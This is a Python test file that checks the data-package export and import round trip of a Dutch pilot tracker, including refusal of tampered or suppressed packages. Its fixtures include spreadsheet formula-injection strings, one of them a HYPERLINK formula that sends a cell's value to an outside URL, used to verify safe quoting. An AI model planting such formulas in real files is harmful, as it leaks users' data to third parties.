"""The data package round trip: a pilot exported as a data package and read back.

``tracker export --format datapackage`` (``build_export`` + ``write_export``) and ``tracker
pilots import-package`` (``import_package``): each demo pilot, imported into an empty database,
is the same pilot with the same analysis, to the last bit; a package that must not be read back
(small numbers left out, not a package, a pilot already there, a changed registration, a bad
number) is refused and nothing is written.

Source and target are real, separate databases on the same backend: two SQLite files, or (with
``TEST_DATABASE_URL``) two schemas of the PostgreSQL test database (``empty_database``). The CLI
test runs the ``tracker`` command on both, with TRACKER_DATABASE_URL set per command.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select
from typer.testing import CliRunner

import tracker.cli.common
import tracker.cli.pilots
from tests.db_helpers import empty_database, row_counts
from tests.factories import ACTOR
from tracker import migrate
from tracker.cli import app
from tracker.db import session_scope
from tracker.errors import ValidationError
from tracker.io import pilot_file as pf
from tracker.io.export_files import write_export
from tracker.io.export_tables import TABLES
from tracker.models import Amendment, Hypothesis, Measure, Measurement, Organisation, Pilot, User
from tracker.services import audit, hypotheses, journal
from tracker.services.analysis import analyze_pilot
from tracker.services.demo import demo_files, load_demo
from tracker.services.exports import ExportRequest, ExportScope, build_export, export_about
from tracker.services.measurement_entry import save_measurement
from tracker.services.pilot_files import import_package
from tracker.services.pilots import find_pilot_by_slug, update_pilot
from tracker.services.reports import publish_report
from tracker.services.sharing import share_pilot
from tracker.vocabulary import INTERVENTION_TYPES

PROJECT_ROOT = Path(__file__).resolve().parents[2]
DEMO = {pf.read(path).slug: path for path in demo_files(PROJECT_ROOT)}
SLUGS = sorted(DEMO)
VALUES = ("value", "numerator", "denominator", "count", "exposure")

# Texts a spreadsheet would run, and Dutch texts that start with the quote the export adds.
FORMULA_TEXTS = (
    '=HYPERLINK("https://example.org/?d="&A1,"klik")',
    "+31 6 12345678 belde terug",
    "-- geschat door het wijkteam",
    "@SUM(A1:A9) zei de controller",
    "'t Is goed gegaan, zegt de buurt",
    "''dubbel geciteerd'' blijft zo",
    'regel 1\nregel 2, met "aanhalingstekens"; en een puntkomma',
)
INTERVENTION_TITLE = "=Training 'gespreksleiders' (extra)"
REGISTERED_TIME = dt.time(9, 30, 1, 123456, tzinfo=dt.UTC)


def test_the_seven_demo_pilots_are_found():
    assert SLUGS == [
        "dorpsondersteuning-aa-en-hunze",
        "generalist-wijkteam-apeldoorn",
        "informele-mentoren-rotterdam",
        "netwerkbijeenkomsten-amsterdam-noord",
        "netwerkbijeenkomsten-utrecht",
        "netwerkbijeenkomsten-utrecht-zuidwest",
        "pedagogisch-collectief-amsterdam",
    ]


# --------------------------------------------------------------------------- helpers
@pytest.fixture
def target(engine: Engine, tmp_path: Path) -> Iterator[Engine]:
    """A second empty, migrated database on the same backend as ``engine``."""
    with empty_database(engine.dialect.name, tmp_path / "target.db") as other:
        migrate.upgrade(other)
        yield other


def url_of(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def load(engine: Engine, tmp_path: Path, *slugs: str) -> dict[str, int]:
    """Demo pilots loaded as ``tracker demo load`` does (test_demo.py), from a root that holds
    only their files; their ids by slug."""
    root = tmp_path / "root"
    (root / "experiments").mkdir(parents=True, exist_ok=True)
    for slug in slugs:
        path = DEMO[slug]
        data = pf.read(path).data
        assert data is not None
        (root / "experiments" / path.name).write_bytes(path.read_bytes())
        (root / data).parent.mkdir(parents=True, exist_ok=True)
        (root / data).write_bytes((PROJECT_ROOT / data).read_bytes())
    with session_scope(engine) as session:
        report = load_demo(session, actor=ACTOR, root=root)
    assert report.loaded == len(slugs)
    return {p.slug: p.pilot_id for p in report.pilots}


def add_awkward_content(engine: Engine, pilot_id: int) -> None:
    """Before the export: an intervention and journal entries with formula-like texts, a
    hypothesis with such texts, registered (with microseconds) and amended, and measurements
    whose values have no short decimal form (their formula-like sources: a test of their own,
    test_a_measurement_source_that_looks_like_a_formula_comes_back_as_typed)."""
    with session_scope(engine) as session:
        pilot = session.get(Pilot, pilot_id)
        assert pilot is not None
        first = hypotheses.list_hypotheses(session, pilot_id)[0]
        measure = session.get(Measure, first.measure_id)
        assert measure is not None
        journal.add_intervention(
            session,
            pilot_id,
            {
                "date": pilot.intervention_start,
                "kind": "-training",
                "title": INTERVENTION_TITLE,
                "description": "@gespreksleiders\n+ twee dagdelen",
                "status": "delivered",
                "planned_date": pilot.baseline_start,
            },
            actor=ACTOR,
        )
        for n, text in enumerate(FORMULA_TEXTS):
            journal.add_observation(
                session,
                pilot_id,
                {
                    "date": pilot.intervention_start + dt.timedelta(days=n),
                    "kind": ("cause", "obstacle", "quote", "decision")[n % 4],
                    "text": text,
                    "hypothesis_code": first.code if n % 2 else None,
                    "intervention_title": INTERVENTION_TITLE if n % 3 == 0 else None,
                },
                actor=ACTOR,
            )
        hypotheses.add_hypothesis(
            session,
            pilot_id,
            {
                "code": "H9",
                "if_text": "=Als we ook 's avonds open zijn",
                "then_text": "+dan komen er meer mensen",
                "because_text": "'omdat' overdag niet kan",
                "measure_code": measure.code,
                "expected_direction": "increase",
                "min_effect": 0.1,
                "min_effect_type": "relative",
                "is_primary": False,
            },
            actor=ACTOR,
        )
        hypotheses.register_hypotheses(session, pilot_id, actor=ACTOR, now=registered_at(pilot))
        h9 = hypotheses.find_hypothesis(session, pilot_id, "H9")
        assert h9 is not None
        hypotheses.amend_hypothesis(
            session,
            h9.id,  # type: ignore[arg-type]
            {
                "field": "then_text",
                "new_value": "-dan komen er meer mensen, ook 's avonds",
                "reason": "=de formulering was te smal; zie het logboek",
            },
            expected_version=h9.version,
            actor=ACTOR,
        )
        rows = session.exec(
            select(Measurement, Measure)
            .join(Measure, col(Measure.id) == col(Measurement.measure_id))
            .where(Measurement.pilot_id == pilot_id)
            .order_by(col(Measurement.id))
        ).all()
        done: set[str] = set()
        for n, (m, measure_row) in enumerate(rows):
            if measure_row.code in done:
                continue
            done.add(measure_row.code)
            values = {name: getattr(m, name) for name in VALUES}
            if str(measure_row.kind) == "continuous":
                values["value"] = m.value / 3
            elif str(measure_row.kind) == "proportion":
                values["denominator"] = m.denominator + 1 / 3
            else:
                values["exposure"] = m.exposure / 3
            save_measurement(
                session,
                pilot_id,
                measure_row.code,
                period=m.period,
                area=m.area,
                group=str(m.group),
                source=f'herberekend, rij {n}; "door 3"',
                actor=ACTOR,
                replace=True,
                **{k: v for k, v in values.items() if v is not None},
            )


def registered_at(pilot: Pilot) -> dt.datetime:
    """H9's registration: before the start, with microseconds."""
    return dt.datetime.combine(pilot.intervention_start - dt.timedelta(days=40), REGISTERED_TIME)


def export_package(
    engine: Engine, out: Path, pilot: str | None, *, suppress_below: int | None = None
) -> tuple[Path, list[Any]]:
    request = ExportRequest(
        tables=TABLES, scope=ExportScope(pilot=pilot), suppress_below=suppress_below
    )
    with session_scope(engine) as session:
        tables = build_export(session, request, actor=ACTOR)
    assert write_export(tables, "datapackage", out, about=export_about(request)) == [out]
    return out, tables


def bits(value: float | None) -> str | None:
    return None if value is None else float(value).hex()


def snapshot(session: Session, slug: str) -> dict[str, Any]:
    """Everything the round trip keeps, as plain values (floats as their exact bits)."""
    pilot = find_pilot_by_slug(session, slug)
    assert pilot is not None and pilot.id is not None
    organisation = session.get(Organisation, pilot.organisation_id)
    owner = session.get(User, pilot.owner_id) if pilot.owner_id is not None else None
    assert organisation is not None
    items = {}
    for h in hypotheses.list_hypotheses(session, pilot.id):
        measure = session.get(Measure, h.measure_id)
        assert measure is not None
        items[h.code] = {
            **{name: getattr(h, name) for name in hypotheses.HASHED_FIELDS},
            "measure": (measure.code, measure.name, measure.definition, measure.unit),
            "kind": (str(measure.kind), str(measure.better_direction), measure.source),
            "registered_at": h.registered_at,
            "registered_late": h.registered_late,
            "content_hash": h.content_hash,
            "amendments": [
                (a.field, a.old_value, a.new_value, a.reason, a.author, a.created_at)
                for a in session.exec(
                    select(Amendment)
                    .where(Amendment.hypothesis_id == h.id)
                    .order_by(col(Amendment.created_at), col(Amendment.id))
                ).all()
            ],
        }
    codes = {h.id: h.code for h in hypotheses.list_hypotheses(session, pilot.id)}
    titles = {i.id: i.title for i in journal.list_interventions(session, pilot.id)}
    measurements = sorted(
        (
            code,
            m.period.isoformat(),
            m.area,
            str(m.group),
            *(bits(getattr(m, name)) for name in VALUES),
            m.source,
        )
        for m, code in session.exec(
            select(Measurement, Measure.code)
            .join(Measure, col(Measure.id) == col(Measurement.measure_id))
            .where(Measurement.pilot_id == pilot.id)
        ).all()
    )
    return {
        "pilot": (
            pilot.slug,
            pilot.title,
            pilot.aim,
            str(pilot.status),
            pilot.municipality,
            pilot.municipality_code,
            list(pilot.domains or []),
            list(pilot.areas or []),
            list(pilot.partners or []),
            pilot.strategy,
            pilot.intervention_type,
            pilot.baseline_start,
            pilot.intervention_start,
            pilot.evaluation_end,
            (organisation.name, organisation.cbs_code),
            owner.email if owner is not None else None,
        ),
        "hypotheses": items,
        "interventions": [
            (i.date, i.kind, i.title, i.description, str(i.status), i.planned_date)
            for i in journal.list_interventions(session, pilot.id)
        ],
        "observations": [
            (
                o.date,
                str(o.kind),
                o.text,
                codes.get(o.hypothesis_id),
                titles.get(o.intervention_id),
            )
            for o in journal.list_observations(session, pilot.id)
        ],
        "measurements": measurements,
        "results": {a.code: a.result.to_dict() for a in analyze_pilot(session, pilot.id)},
    }


def zip_entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def refused(engine: Engine, package: bytes | Path, *, name: str = "") -> ValidationError:
    with pytest.raises(ValidationError) as caught, session_scope(engine) as session:
        import_package(session, package, actor=ACTOR, name=name)
    return caught.value


def empty(engine: Engine) -> bool:
    return set(row_counts(engine).values()) == {0}


# --------------------------------------------------------------------------- the round trip
@pytest.mark.parametrize("slug", SLUGS)
def test_a_demo_pilot_comes_back_the_same_to_the_last_bit(engine, target, tmp_path, slug):
    pilot_id = load(engine, tmp_path, slug)[slug]
    add_awkward_content(engine, pilot_id)
    package, tables = export_package(engine, tmp_path / f"{slug}.zip", slug)
    assert {t.name: t.rows for t in tables}["observations"] == 5 + len(FORMULA_TEXTS)

    with session_scope(target) as session:
        [imported] = import_package(session, package, actor=ACTOR)
    with session_scope(engine, read_only=True) as session:
        source = snapshot(session, slug)
    with session_scope(target, read_only=True) as session:
        copy = snapshot(session, slug)
        locked = [h for h in session.exec(select(Hypothesis)).all() if h.is_locked]
        assert locked and all(hypotheses.verify_registration(session, h) for h in locked)
        assert audit.verify_chain(session).ok

    assert (imported.slug, imported.hypotheses, imported.measurements) == (
        slug,
        len(source["hypotheses"]),
        len(source["measurements"]),
    )
    for part in ("pilot", "interventions", "observations", "measurements"):
        assert copy[part] == source[part], part
    assert copy["hypotheses"].keys() == source["hypotheses"].keys()
    for code, expected in source["hypotheses"].items():
        assert copy["hypotheses"][code] == expected, code
    # The analysis: the very same result for every hypothesis, compared exactly.
    assert copy["results"].keys() == source["results"].keys()
    for code, expected in source["results"].items():
        assert copy["results"][code] == expected, code

    # What the comparison above covers is really there.
    h9 = copy["hypotheses"]["H9"]
    assert (h9["if_text"], h9["then_text"], h9["because_text"]) == (
        "=Als we ook 's avonds open zijn",
        "+dan komen er meer mensen",
        "'omdat' overdag niet kan",
    )
    with session_scope(target, read_only=True) as session:
        expected_at = registered_at(find_pilot_by_slug(session, slug))  # type: ignore[arg-type]
    assert (h9["registered_at"], h9["registered_late"]) == (expected_at, False)
    assert h9["registered_at"].microsecond == 123456
    assert [a[:4] for a in h9["amendments"]] == [
        (
            "then_text",
            "+dan komen er meer mensen",
            "-dan komen er meer mensen, ook 's avonds",
            "=de formulering was te smal; zie het logboek",
        )
    ]
    texts = [o[2] for o in copy["observations"]]
    assert [t for t in texts if t in FORMULA_TEXTS] == list(FORMULA_TEXTS)
    assert (INTERVENTION_TITLE, "@gespreksleiders\n+ twee dagdelen") in {
        (i[2], i[3]) for i in copy["interventions"]
    }
    assert len({m[-1] for m in copy["measurements"]}) > 1
    assert all(r["verdict"] for r in copy["results"].values())
    if slug == "pedagogisch-collectief-amsterdam":  # the demo's own amendment
        assert any(
            a[0] == "comparison_group" for h in copy["hypotheses"].values() for a in h["amendments"]
        )
    if slug == "generalist-wijkteam-apeldoorn":  # the demo's late registration
        assert any(h["registered_late"] for h in copy["hypotheses"].values())


def test_a_measurement_source_that_looks_like_a_formula_comes_back_as_typed(
    engine, target, tmp_path
):
    """The export writes ``'=…`` for a source ``=…`` and the package reader takes the quote
    off again, as it does for every other text; the measurements must not keep it."""
    slug = "netwerkbijeenkomsten-utrecht"
    pilot_id = load(engine, tmp_path, slug)[slug]
    sources = (*FORMULA_TEXTS[:5], "gewoon = geen formule")
    with session_scope(engine) as session:
        rows = session.exec(
            select(Measurement, Measure.code)
            .join(Measure, col(Measure.id) == col(Measurement.measure_id))
            .where(Measurement.pilot_id == pilot_id)
            .order_by(col(Measurement.id))
            .limit(len(sources))
        ).all()
        for (m, code), source in zip(rows, sources, strict=True):
            values = {name: getattr(m, name) for name in VALUES}
            save_measurement(
                session,
                pilot_id,
                code,
                period=m.period,
                area=m.area,
                group=str(m.group),
                source=source,
                actor=ACTOR,
                replace=True,
                **{k: v for k, v in values.items() if v is not None},
            )
    package, _ = export_package(engine, tmp_path / "export.zip", slug)
    with session_scope(target) as session:
        import_package(session, package, actor=ACTOR)

    def stored(engine: Engine) -> list[str]:
        with session_scope(engine, read_only=True) as session:
            return sorted(
                m.source
                for m in session.exec(select(Measurement)).all()
                if m.source != "fictief (demo)"
            )

    assert stored(engine) == sorted(sources)
    assert stored(target) == sorted(sources)


def test_a_package_of_two_pilots_imports_both(engine, target, tmp_path):
    ids = load(engine, tmp_path, SLUGS[0], SLUGS[3])
    assert len(ids) == 2
    package, _ = export_package(engine, tmp_path / "both.zip", None)
    with session_scope(target) as session:
        imported = import_package(session, package, actor=ACTOR)
    assert sorted(i.slug for i in imported) == [SLUGS[0], SLUGS[3]]
    for slug in (SLUGS[0], SLUGS[3]):
        with session_scope(engine, read_only=True) as session:
            source = snapshot(session, slug)
        with session_scope(target, read_only=True) as session:
            assert snapshot(session, slug) == source, slug


def set_intervention_type(engine: Engine, pilot_id: int) -> str:
    """Give the pilot an intervention type other than the one it has (whatever the demo file
    says): the value that comes back can only have come through the package."""
    with session_scope(engine) as session:
        pilot = session.get(Pilot, pilot_id)
        assert pilot is not None
        chosen = next(code for code in INTERVENTION_TYPES if code != pilot.intervention_type)
        update_pilot(
            session,
            pilot_id,
            {"intervention_type": chosen},
            expected_version=pilot.version,
            actor=ACTOR,
        )
    return chosen


def test_the_intervention_type_comes_back_and_sharing_stays_behind(engine, target, tmp_path):
    """The type is a fact of the pilot and travels with it; sharing is a decision of the
    organisation that holds the pilot, so the copy starts unshared (the column says what the
    source decided)."""
    slug = "informele-mentoren-rotterdam"
    pilot_id = load(engine, tmp_path, slug)[slug]
    chosen = set_intervention_type(engine, pilot_id)
    with session_scope(engine) as session:
        publish_report(session, pilot_id, actor=ACTOR)
        pilot = session.get(Pilot, pilot_id)
        assert pilot is not None
        share_pilot(session, pilot_id, shared=True, expected_version=pilot.version, actor=ACTOR)
    package, tables = export_package(engine, tmp_path / "export.zip", slug)
    pilots_table = {t.name: t for t in tables}["pilots"].frame
    assert pilots_table[["intervention_type", "shared"]].values.tolist() == [[chosen, True]]
    text = zip_entries(package.read_bytes())["pilots.csv"].decode("utf-8")
    assert f'"{chosen}",true,' in text

    with session_scope(target) as session:
        import_package(session, package, actor=ACTOR)
    with session_scope(target, read_only=True) as session:
        copy = find_pilot_by_slug(session, slug)
        assert copy is not None
        assert (copy.intervention_type, copy.shared_at, copy.shared_by) == (chosen, None, "")


def without_column(entries: dict[str, bytes], resource: str, column: str) -> dict[str, bytes]:
    """The package as an export from before ``column`` existed: gone from the CSV and from the
    resource's Table Schema."""
    rows = list(csv.reader(io.StringIO(entries[f"{resource}.csv"].decode("utf-8"), newline="")))
    drop = rows[0].index(column)
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(
        [cell for i, cell in enumerate(row) if i != drop] for row in rows
    )
    descriptor = json.loads(entries["datapackage.json"])
    [schema] = [r["schema"] for r in descriptor["resources"] if r["name"] == resource]
    schema["fields"] = [f for f in schema["fields"] if f["name"] != column]
    return entries | {
        f"{resource}.csv": buffer.getvalue().encode("utf-8"),
        "datapackage.json": json.dumps(descriptor).encode("utf-8"),
    }


def test_a_package_from_before_the_intervention_type_imports_without_one(engine, target, tmp_path):
    slug = "netwerkbijeenkomsten-utrecht"
    pilot_id = load(engine, tmp_path, slug)[slug]
    set_intervention_type(engine, pilot_id)
    package, _ = export_package(engine, tmp_path / "export.zip", slug)
    older = without_column(zip_entries(package.read_bytes()), "pilots", "intervention_type")
    assert b"intervention_type" not in older["pilots.csv"]
    with session_scope(target) as session:
        [imported] = import_package(session, rezip(older), actor=ACTOR)
    with session_scope(target, read_only=True) as session:
        copy = find_pilot_by_slug(session, slug)
        assert copy is not None and copy.intervention_type == ""
        source = snapshot(session, slug)
    assert imported.hypotheses == len(source["hypotheses"])


def test_an_unknown_intervention_type_in_a_package_is_refused(engine, target, tmp_path):
    slug = "netwerkbijeenkomsten-utrecht"
    pilot_id = load(engine, tmp_path, slug)[slug]
    chosen = set_intervention_type(engine, pilot_id)
    package, _ = export_package(engine, tmp_path / "export.zip", slug)
    entries = zip_entries(package.read_bytes())
    text = entries["pilots.csv"].decode("utf-8")
    assert text.count(f'"{chosen}"') == 1
    entries["pilots.csv"] = text.replace(f'"{chosen}"', '"buurtbarbecue"').encode("utf-8")
    error = refused(target, rezip(entries))
    assert [(e.field, e.code) for e in error.errors] == [
        (f"{slug}.intervention_type", "intervention_type")
    ]
    assert "buurtbarbecue" in error.errors[0].message("nl")
    assert "netwerkbijeenkomst" in error.errors[0].message("nl")
    assert empty(target)


# --------------------------------------------------------------------------- the CLI
@pytest.fixture
def wide(monkeypatch) -> None:
    """Rich wraps at the console's width (80 without a terminal); lines compared whole need a
    wide one (as test_users_cli.py does)."""
    monkeypatch.setattr(tracker.cli.pilots, "console", Console(width=300))
    monkeypatch.setattr(tracker.cli.common, "err_console", Console(stderr=True, width=300))


def test_the_cli_exports_and_imports_a_package(engine, target, tmp_path, wide):
    runner = CliRunner()
    base = {"TRACKER_ACTOR": "cli@test.example", "TRACKER_LANGUAGE": "en"}
    at_source = base | {"TRACKER_DATABASE_URL": url_of(engine)}
    at_target = base | {"TRACKER_DATABASE_URL": url_of(target)}
    slug = "pedagogisch-collectief-amsterdam"
    loaded = runner.invoke(app, ["demo", "load"], env=at_source)
    assert loaded.exit_code == 0, loaded.output
    out = tmp_path / "export.zip"
    command = ["export", "--format", "datapackage", "--tables", "all", "--pilot", slug]
    exported = runner.invoke(app, [*command, "--out", str(out)], env=at_source)
    assert exported.exit_code == 0, exported.output
    assert exported.stdout.startswith(f"Written: {out} (pilots: 1 rows; areas: 3 rows; ")
    assert "; measurements: 216 rows; interventions: 4 rows; observations: 5 rows;" in (
        exported.stdout
    )
    assert empty(target)

    imported = runner.invoke(app, ["pilots", "import-package", str(out)], env=at_target)
    assert imported.exit_code == 0, imported.output
    assert imported.stderr == ""
    assert imported.stdout == (
        f"{slug}: 2 hypotheses, 4 interventions, 5 observations, 216 measurements, 2 new measures\n"
    )
    with session_scope(engine, read_only=True) as session:
        source = snapshot(session, slug)
    with session_scope(target, read_only=True) as session:
        assert snapshot(session, slug) == source
        assert [p.slug for p in session.exec(select(Pilot)).all()] == [slug]

    # Again: refused, naming the pilot, exit code 1, nothing written.
    counts = row_counts(target)
    again = runner.invoke(
        app, ["pilots", "import-package", str(out)], env=at_target | {"TRACKER_LANGUAGE": "nl"}
    )
    assert again.exit_code == 1
    assert again.stdout == ""
    assert again.stderr == (
        f"Fout: {slug}.slug: pilot '{slug}' staat al in de database; er is niets geïmporteerd\n"
    )
    assert row_counts(target) == counts


def test_the_cli_imports_a_package_in_dutch_one_line_per_pilot(engine, target, tmp_path, wide):
    load(engine, tmp_path, SLUGS[0], SLUGS[1])
    package, _ = export_package(engine, tmp_path / "beide.zip", None)
    result = CliRunner().invoke(
        app,
        ["pilots", "import-package", str(package)],
        env={
            "TRACKER_DATABASE_URL": url_of(target),
            "TRACKER_ACTOR": "cli@test.example",
            "TRACKER_LANGUAGE": "nl",
        },
    )
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        f"{SLUGS[0]}: 3 hypothesen, 5 interventies, 5 logboek-notities, 216 metingen, "
        "3 nieuwe indicatoren\n"
        f"{SLUGS[1]}: 3 hypothesen, 4 interventies, 5 logboek-notities, 288 metingen, "
        "4 nieuwe indicatoren\n"
    )


def test_an_export_of_one_pilot_holds_only_that_pilots_measures(engine, tmp_path):
    """The codebook of a one-pilot export is the measures of its hypotheses and measurements
    (tracker.services.exports._measures), not every measure in the database."""
    load(engine, tmp_path, "generalist-wijkteam-apeldoorn", "informele-mentoren-rotterdam")
    request = ExportRequest(
        tables=("measures", "measurements"),
        scope=ExportScope(pilot="informele-mentoren-rotterdam"),
    )
    with session_scope(engine) as session:
        measures, measurements = build_export(session, request, actor=ACTOR)
    used = sorted(set(measurements.frame["measure"].astype(str)))
    assert used == ["aandeel_trajecten_volgens_plan", "verwijzingen_specialistische_jeugdhulp"]
    assert list(measures.frame["measure"]) == used


# --------------------------------------------------------------------------- refusals
def test_a_package_with_small_numbers_left_out_is_refused(engine, target, tmp_path):
    slug = "pedagogisch-collectief-amsterdam"
    load(engine, tmp_path, slug)
    package, tables = export_package(engine, tmp_path / "gedeeld.zip", slug, suppress_below=5)
    measurements = {t.name: t for t in tables}["measurements"]
    cells = sum(int(m.sum()) for m in measurements.suppressed.values())
    assert cells > 0
    text = zip_entries(package.read_bytes())["measurements.csv"].decode("utf-8")
    assert ',"count"\r\n' in text  # the rows name what was left out
    error = refused(target, package)
    assert [(e.field, e.code) for e in error.errors] == [("package", "package_suppressed")]
    assert error.errors[0].message("nl") == (
        f"in deze export zijn kleine aantallen weggelaten ({cells} cellen); zo'n export is om "
        "te delen, niet om in te lezen. Exporteer opnieuw zonder bescherming van kleine aantallen"
    )
    assert empty(target)


def test_the_refusal_counts_the_cells_left_out_not_the_rows(engine, target, tmp_path):
    """A proportion of 1 in 3 loses its numerator and its denominator: two cells in one row.
    The export says how many cells it left out; the refusal must say the same number."""
    slug = "dorpsondersteuning-aa-en-hunze"
    pilot_id = load(engine, tmp_path, slug)[slug]
    with session_scope(engine) as session:
        row = session.exec(
            select(Measurement)
            .join(Measure, col(Measure.id) == col(Measurement.measure_id))
            .where(Measurement.pilot_id == pilot_id, Measure.kind == "proportion")
            .order_by(col(Measurement.id))
        ).first()
        assert row is not None
        save_measurement(
            session,
            pilot_id,
            "aandeel_informele_steun",
            period=row.period,
            area=row.area,
            group=str(row.group),
            numerator=1,
            denominator=3,
            source=row.source,
            actor=ACTOR,
            replace=True,
        )
    package, tables = export_package(engine, tmp_path / "gedeeld.zip", slug, suppress_below=5)
    measurements = {t.name: t for t in tables}["measurements"]
    assert "numerator, denominator" in set(measurements.frame["suppressed"])
    cells = sum(int(m.sum()) for m in measurements.suppressed.values())
    error = refused(target, package)
    assert error.errors[0].code == "package_suppressed"
    assert error.errors[0].value == str(cells)
    assert f"({cells} cellen)" in error.errors[0].message("nl")
    assert empty(target)


@pytest.mark.parametrize(
    ("content", "detail"),
    [
        (rezip({"pilots.csv": b'"pilot"\r\n"x"\r\n'}), "KeyError"),
        (b"pilot,title\r\nx,y\r\n", "BadZipFile"),
    ],
    ids=["zip-without-datapackage-json", "not-a-zip"],
)
def test_what_is_not_a_data_package_is_refused(target, content, detail):
    error = refused(target, content, name="kapot.zip")
    assert [(e.field, e.code) for e in error.errors] == [("package", "package_unreadable")]
    assert error.errors[0].message("nl") == (
        f"kapot.zip is geen zip met een datapackage.json ({detail}); exporteer opnieuw met het "
        "formaat datapackage"
    )
    assert empty(target)


def test_a_pilot_already_in_the_database_is_refused_and_nothing_is_written(
    engine, target, tmp_path
):
    first, second = SLUGS[1], SLUGS[2]
    load(engine, tmp_path, first, second)
    only_second, _ = export_package(engine, tmp_path / "second.zip", second)
    both, _ = export_package(engine, tmp_path / "both.zip", None)
    with session_scope(target) as session:
        import_package(session, only_second, actor=ACTOR)
    counts = row_counts(target)
    for package in (only_second, both):
        error = refused(target, package)
        assert [(e.field, e.code) for e in error.errors] == [(f"{second}.slug", "pilot_exists")]
        assert error.errors[0].message("nl") == (
            f"pilot '{second}' staat al in de database; er is niets geïmporteerd"
        )
        # All or nothing: the first pilot of the two-pilot package was not kept either.
        assert row_counts(target) == counts
    with session_scope(target, read_only=True) as session:
        assert find_pilot_by_slug(session, first) is None


def test_a_hypothesis_changed_after_registration_is_refused(engine, target, tmp_path):
    slug = "netwerkbijeenkomsten-utrecht"
    load(engine, tmp_path, slug)
    package, tables = export_package(engine, tmp_path / "export.zip", slug)
    frame = {t.name: t for t in tables}["hypotheses"].frame
    original = frame.loc[frame["hypothesis"] == "H1", "if_text"].iloc[0]
    assert original.startswith("Als ")
    entries = zip_entries(package.read_bytes())
    text = entries["hypotheses.csv"].decode("utf-8")
    assert text.count(f'"{original}"') == 1
    entries["hypotheses.csv"] = text.replace(
        f'"{original}"', f'"{original.replace("Als ", "Als we ooit ", 1)}"'
    ).encode("utf-8")
    error = refused(target, rezip(entries))
    assert [(e.field, e.code) for e in error.errors] == [
        (f"{slug}.hypotheses[1].content_hash", "hash_mismatch")
    ]
    message = error.errors[0].message("nl")
    assert message.startswith("hypothese H1 is vooraf vastgelegd, maar de inhoud in het bestand")
    assert "wordt geweigerd" in message
    assert empty(target)


def test_a_bad_number_in_the_measurements_is_refused_naming_file_and_column(
    engine, target, tmp_path
):
    slug = "informele-mentoren-rotterdam"
    load(engine, tmp_path, slug)
    package, _ = export_package(engine, tmp_path / "export.zip", slug)
    entries = zip_entries(package.read_bytes())
    lines = entries["measurements.csv"].decode("utf-8").split("\r\n")
    header = lines[0].split(",")
    cells = lines[5].split(",")
    column = next(
        header[i].strip('"') for i, cell in enumerate(cells) if i >= 5 and cell[:1].isdigit()
    )
    cells[header.index(f'"{column}"')] = '"12,5"'  # a decimal comma: text, not a number
    lines[5] = ",".join(cells)
    entries["measurements.csv"] = "\r\n".join(lines).encode("utf-8")
    error = refused(target, rezip(entries))
    assert [(e.field, e.code) for e in error.errors] == [
        (f"measurements.{column}", "package_value")
    ]
    message = error.errors[0].message("nl")
    # The file, the row as a spreadsheet counts it (line 6: row 6), the column and the value.
    assert message == (
        f"bestand measurements.csv, rij 6, kolom '{column}': '12,5' is geen geldige waarde van "
        "het type number (getallen met een decimale punt, datums als JJJJ-MM-DD); exporteer "
        "opnieuw, of verbeter de cel"
    )
    assert empty(target)


def test_a_row_with_a_cell_too_many_is_refused_as_a_validation_error(engine, target, tmp_path):
    """A hand-edited file with a bare decimal comma (``12,5`` unquoted) has a field too many in
    that row: a refusal with a message, like every other broken package, not a pandas error
    (the CLI only turns ValidationError and the like into a message and exit code 1)."""
    slug = "informele-mentoren-rotterdam"
    load(engine, tmp_path, slug)
    package, _ = export_package(engine, tmp_path / "export.zip", slug)
    entries = zip_entries(package.read_bytes())
    lines = entries["measurements.csv"].decode("utf-8").split("\r\n")
    cells = lines[5].split(",")
    cells[8] = "12,5"
    lines[5] = ",".join(cells)
    entries["measurements.csv"] = "\r\n".join(lines).encode("utf-8")
    try:
        error = refused(target, rezip(entries))
    except Exception as exc:
        pytest.fail(f"not a ValidationError but {type(exc).__name__}: {exc}")
    assert error.errors[0].field.startswith(("package", "measurements"))
    assert empty(target)
